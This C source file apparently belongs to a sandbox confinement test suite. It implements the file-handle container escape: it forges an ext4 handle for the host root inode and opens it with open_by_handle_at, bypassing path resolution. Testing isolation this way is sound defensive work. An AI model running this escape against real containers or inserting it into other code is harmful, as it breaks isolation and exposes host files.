// File handles bypass path resolution altogether: name_to_handle_at to
// learn a handle, open_by_handle_at with a forged one for the host root
// (inode 2 on ext4) and the decoy.
#include "attack.h"

struct handle {
  unsigned int bytes;
  int type;
  unsigned char f[128];
};

int main(void) {
  announce();
  struct handle h = {128, 0, {0}};
  int mount_id = 0;
  step("name_to_handle_at", RAW5(SYS_name_to_handle_at, AT_FDCWD, "/etc/passwd", &h, &mount_id, 0));
  // Forged ext4 handle: FILEID_INO32_GEN (1), inode 2 (root), generation 0.
  struct handle forged = {8, 1, {2, 0, 0, 0, 0, 0, 0, 0}};
  long fd = step("open_by_handle_root", RAW3(SYS_open_by_handle_at, AT_FDCWD, &forged, O_RDONLY));
  dump_fd("open_by_handle_root", fd);
  long root = RAW4(SYS_openat, AT_FDCWD, "/", O_RDONLY | O_DIRECTORY, 0);
  fd = step("open_by_handle_rootfd", RAW3(SYS_open_by_handle_at, root, &forged, O_RDONLY));
  dump_fd("open_by_handle_rootfd", fd);
  return done();
}
